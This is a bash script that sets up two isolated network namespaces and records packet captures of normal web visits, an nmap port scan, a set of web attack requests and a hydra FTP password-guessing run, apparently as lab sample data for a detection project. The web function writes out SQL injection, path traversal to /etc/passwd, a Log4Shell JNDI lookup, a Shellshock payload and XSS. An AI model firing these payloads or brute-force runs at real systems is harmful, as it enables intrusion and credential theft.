#!/usr/bin/env bash
# Records the project's sample captures anew: real tools against real services, in two network namespaces made and
# removed here. Needs root and, from Debian: nmap hydra vsftpd nginx-light curl tcpdump dnsutils iproute2.
set -euo pipefail
[ "$(id -u)" = 0 ] || { echo "record-samples: needs root for network namespaces" >&2; exit 5; }
out=${1:-samples}
work=$(mktemp -d)
cleanup() {
	for p in "$work"/*.pid; do [ -f "$p" ] && kill "$(cat "$p")" 2>/dev/null || true; done
	ip netns pids dj-srv 2>/dev/null | xargs -r kill 2>/dev/null || true
	ip netns del dj-att 2>/dev/null || true
	ip netns del dj-srv 2>/dev/null || true
	rm -rf "$work"
}
trap cleanup EXIT
ip netns add dj-att; ip netns add dj-srv
ip link add dj-a netns dj-att type veth peer name dj-s netns dj-srv
ip -n dj-att addr add 203.0.113.66/24 dev dj-a; ip -n dj-att addr add 203.0.113.20/24 dev dj-a
ip -n dj-srv addr add 203.0.113.10/24 dev dj-s
for n in dj-att dj-srv; do ip -n $n link set lo up; done
ip -n dj-att link set dj-a up; ip -n dj-srv link set dj-s up
A="ip netns exec dj-att" S="ip netns exec dj-srv"
$S ethtool -K dj-s tx off >/dev/null 2>&1 || true; $A ethtool -K dj-a tx off >/dev/null 2>&1 || true

mkdir -p "$work/www"; echo '<html><body>welcome</body></html>' >"$work/www/index.html"
cat >"$work/nginx.conf" <<N
daemon off; pid $work/nginx.pid; error_log /dev/null;
events { worker_connections 64; }
http { access_log off; client_body_temp_path $work/b; proxy_temp_path $work/p; fastcgi_temp_path $work/f; uwsgi_temp_path $work/u; scgi_temp_path $work/s;
 server { listen 80; root $work/www; location /app { return 200 "ok"; } } }
N
chmod -R a+rX "$work"
$S nginx -c "$work/nginx.conf" & sleep 1
printf 'listen=YES\nbackground=NO\nanonymous_enable=NO\nlocal_enable=YES\nseccomp_sandbox=NO\nsecure_chroot_dir=/var/run/vsftpd/empty\npam_service_name=vsftpd\n' >"$work/vsftpd.conf"
mkdir -p /var/run/vsftpd/empty
$S vsftpd "$work/vsftpd.conf" & sleep 1

record() { # name, then the story as a function
	$S timeout 60 tcpdump -i dj-s -s 512 -U -w "$work/$1.pcap" ip 2>/dev/null & local t=$!
	sleep 1; "$2" >/dev/null 2>&1 || true; sleep 1; kill -INT $t; wait $t 2>/dev/null || true
	install -m 644 "$work/$1.pcap" "$out/$1.pcap"
}
visits() { for i in 1 2 3 4 5 6; do $A curl -s --interface 203.0.113.20 http://203.0.113.10/ -o /dev/null; $A curl -s --interface 203.0.113.20 "http://203.0.113.10/app?page=$i" -o /dev/null; sleep 0.3; done; }
scan() { $A nmap -n -Pn -sS --top-ports 60 --max-retries 0 -S 203.0.113.66 -e dj-a 203.0.113.10; }
web() {
	get() { $A curl -s -m 3 --path-as-is --interface 203.0.113.66 "$@" -o /dev/null; sleep 0.2; }
	get "http://203.0.113.10/app?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20"
	get "http://203.0.113.10/app/../../../../etc/passwd"
	get -H 'X-Api: ${jndi:ldap://203.0.113.66/a}' http://203.0.113.10/app
	get -A '() { :; }; /bin/id' http://203.0.113.10/app
	get "http://203.0.113.10/app?q=%3Cscript%3Ealert(1)%3C/script%3E"
}
ftp() { printf '%s\n' one two three four five six seven eight nine ten eleven twelve >"$work/words"; $A timeout 50 hydra -t 4 -l admin -P "$work/words" ftp://203.0.113.10; }
mkdir -p "$out"
record visits visits; record portscan scan; record web-attacks web; record ftp-guessing ftp
ls -l "$out"
